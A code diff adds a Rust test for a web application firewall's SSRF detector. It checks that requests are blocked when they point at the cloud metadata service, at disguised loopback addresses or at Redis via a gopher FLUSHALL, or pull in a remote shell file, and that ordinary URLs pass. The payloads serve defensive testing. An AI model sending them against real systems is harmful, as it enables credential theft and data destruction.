@@ -487,6 +487,53 @@ async fn the_waf_blocks_attacks_in_the_query_and_in_bodies_and_lets_users_throug
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn urls_that_point_the_app_at_metadata_or_the_loopback_are_refused_and_ordinary_urls_pass() {
+    let side = PolicedSidecar::start(&waf_policy(
+        "{mode: BLOCK, exclusions: [{paths: [\"/hooks\"], parameters: [callback], detectors: [ssrf]}]}",
+    ))
+    .await;
+    // Refused first: a fetcher pointed at the metadata service, the loopback in disguise, a
+    // Redis command by gopher, remote inclusion from an address.
+    for (target, what) in [
+        ("/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F", "AWS's metadata service"),
+        ("/fetch?url=http://0x7f.1:6379/", "the loopback in hexadecimal, two parts"),
+        (
+            "/fetch?url=http://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0/",
+            "the loopback in circled digits",
+        ),
+        ("/fetch?url=gopher://cache:6379/_FLUSHALL", "gopher to Redis"),
+        ("/page.php?src=http://66.240.183.75/shell.txt%3F", "remote inclusion from an address"),
+        ("/fetch?url=host.docker.internal/", "the container host without a scheme"),
+        ("/oauth/authorize?redirect_uri=http://169.254.169.254/", "a redirect URI at the metadata service"),
+        ("/hooks?other=http://10.0.3.7:8080/hook", "an address under a parameter the exclusion does not name"),
+    ] {
+        let answer = side.send("frontend", "GET", target, &[]).await;
+        assert_refused(&answer, 403, "forbidden", what);
+    }
+    let webhook = r#"{"name":"deploys","target":{"url":"http://[::ffff:127.0.0.1]:2375/containers/json"}}"#;
+    let answer = side.exchange("frontend", &post("/webhooks", "application/json", webhook)).await;
+    assert_refused(&answer, 403, "forbidden", "the loopback inside IPv6, deep in a JSON body");
+
+    // What callers send every day gets through.
+    for target in [
+        "/fetch?url=https://api.example.com/v1/orders",
+        "/oauth/authorize?client_id=cli&redirect_uri=http://127.0.0.1:53682/",
+        "/hooks?callback=http://10.0.3.7:8080/hook",
+        "/firewall?cidr=10.0.0.0/8&host=localhost",
+    ] {
+        let answer = side.send("frontend", "GET", target, &[]).await;
+        assert_eq!(answer.status, 200, "{target}: {answer:?}");
+    }
+    let metrics = side.metrics().await;
+    assert_eq!(sample(&metrics, r#"palisade_waf_findings_total{action="blocked",detector="ssrf"}"#), 9.0, "{metrics}");
+    side.events_where("the metadata request's event names the detector and the parameter", 1, |e| {
+        e["message"].as_str().is_some_and(|m| m.starts_with("blocked GET /fetch: ssrf in query_value url"))
+    })
+    .await;
+    side.shutdown();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn json_under_another_type_or_compressed_is_inspected_as_the_app_would_read_it() {
     // Apps that parse JSON whatever the type (PHP's json_decode of php://input, Go's
     // json.Decoder) or inflate gzip bodies (Express's body-parser) read what these carry.
